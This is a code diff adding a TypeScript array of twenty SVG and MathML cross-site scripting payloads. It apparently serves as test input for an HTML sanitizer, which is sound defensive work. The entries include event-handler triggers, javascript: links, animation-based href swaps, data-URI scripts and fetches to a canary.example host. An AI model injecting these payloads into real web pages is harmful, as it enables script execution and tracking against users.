@@ -1,0 +1,23 @@
+/** SVG and MathML that run script, link or fetch: HTML (20). */
+export const drawings: readonly string[] = [
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script href="https://canary.example/{n}.js"></script></svg>',
+  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
+  '<svg><a href="javascript:alert(1)"><text y=20>link</text></a></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>link</text></a></svg>',
+  '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text y=20>link</text></a></svg>',
+  '<svg><a><set attributeName=href to="javascript:alert(1)" /><text y=20>link</text></a></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  '<svg><set onend=alert(1) attributeName=x dur=1ms></svg>',
+  '<svg><image href="https://canary.example/{n}.png" onerror=alert(1) /></svg>',
+  '<svg><use href="https://canary.example/{n}.svg#x" /></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x" /></svg>',
+  '<svg><foreignObject><iframe src="https://canary.example/{n}"></iframe></foreignObject></svg>',
+  '<svg><foreignObject><body onload=alert(1)><img src=x onerror=alert(1)></foreignObject></svg>',
+  '<svg><filter id=f><feImage href="https://canary.example/{n}.png" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
+  '<svg><style>@import url(https://canary.example/{n}.css);</style></svg>',
+  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
+  '<math href="javascript:alert(1)"><mi>x</mi></math>',
+  '<math><maction actiontype="statusline#https://canary.example/{n}" xlink:href="javascript:alert(1)">x</maction></math>',
+];
